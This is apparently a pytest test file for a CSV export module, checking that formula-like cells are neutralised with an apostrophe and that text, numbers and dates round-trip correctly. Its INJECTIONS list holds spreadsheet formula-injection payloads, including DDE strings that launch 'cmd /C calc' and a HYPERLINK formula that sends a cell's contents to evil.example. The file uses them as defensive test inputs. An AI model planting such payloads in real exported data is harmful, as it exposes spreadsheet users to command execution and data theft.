"""A CSV file is read back as it was meant, and no cell of it is a formula, whoever wrote it."""

from __future__ import annotations

import csv
from datetime import UTC, datetime, timedelta, timezone
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.results.csv_export import CsvStyle, Separator, csv_chunks, harmless

INJECTIONS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1;"click")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\tx",
    "\r=1+1",
    "\rx",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u202f=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫x",
    "−1",
    "\t＝1+1",
]
HARMLESS = [
    "Zoé Dûpont",
    "o'Brien",
    "l’été",
    "a=b",
    "1-2",
    "(=)",
    "",
    "Jean-Luc",
    "𝔘nicode",
    "日本",
    "«\u00a0oui\u00a0»",
]


def read(chunks: bytes, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(StringIO(chunks.decode("utf-8-sig"), newline=""), delimiter=separator, strict=True))


def write(rows: list[list[object]], **style: object) -> bytes:
    return b"".join(csv_chunks(["name"], rows, CsvStyle(**style)))  # type: ignore[arg-type]


@pytest.mark.parametrize("text", INJECTIONS, ids=ascii)
def test_no_cell_begins_a_formula(text):
    (_, (cell,)) = read(write([[text]]))
    assert cell.startswith("'")
    assert cell[1:] == text.replace("\0", "\ufffd")


@pytest.mark.parametrize("text", INJECTIONS, ids=ascii)
def test_no_column_title_begins_a_formula(text):
    (titles,) = read(b"".join(csv_chunks([text], [], CsvStyle())))
    assert titles[0].startswith("'")


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_ordinary_text_stays_as_it_is(text):
    assert harmless(text) == text


@given(st.lists(st.lists(st.text(max_size=20), min_size=1, max_size=3), max_size=5), st.sampled_from(Separator))
def test_whatever_was_written_is_read_back_in_its_cell(rows, separator):
    found = read(b"".join(csv_chunks(["a"], rows, CsvStyle(separator=separator))), separator.sign)
    assert found[1:] == [[harmless(cell) for cell in row] for row in rows]


def test_a_separator_a_quote_and_a_line_end_within_a_cell_end_no_cell():
    assert read(write([['a;b,"c"\r\nd', "e"]], separator=Separator.SEMICOLON), ";")[1] == ['a;b,"c"\r\nd', "e"]


def test_the_file_begins_with_a_byte_order_mark_and_its_lines_end_in_cr_lf():
    assert write([["é"]]) == b"\xef\xbb\xbfname\r\n\xc3\xa9\r\n"


def test_half_a_character_does_not_break_the_file():
    assert read(write([["a\ud800b"]]))[1] == ["a?b"]


@pytest.mark.parametrize(
    ("number", "point", "comma"),
    [(1.5, "1.5", "1,5"), (-0.25, "-0.25", "-0,25"), (3.0, "3", "3"), (1e-9, "0", "0"), (-1e-9, "0", "0")],
)
def test_numbers_of_our_own_stay_numbers(number, point, comma):
    assert read(write([[number]]))[1] == [point]
    assert read(write([[number]], separator=Separator.SEMICOLON, decimal_comma=True), ";")[1] == [comma]


def test_whole_numbers_moments_and_nothing_have_one_spelling():
    moment = datetime(2026, 11, 22, 13, 30, tzinfo=timezone(timedelta(hours=1)))
    assert read(write([[7, moment, None, True]]))[1] == ["7", "2026-11-22T12:30:00Z", "", "1"]
    assert moment.astimezone(UTC).hour == 12


def test_rows_are_asked_for_only_as_the_file_is_read():
    asked = []

    def rows():
        for number in range(1_000):
            asked.append(number)
            yield [number]

    chunks = csv_chunks(["n"], rows(), CsvStyle())
    next(chunks)
    assert len(asked) < 100
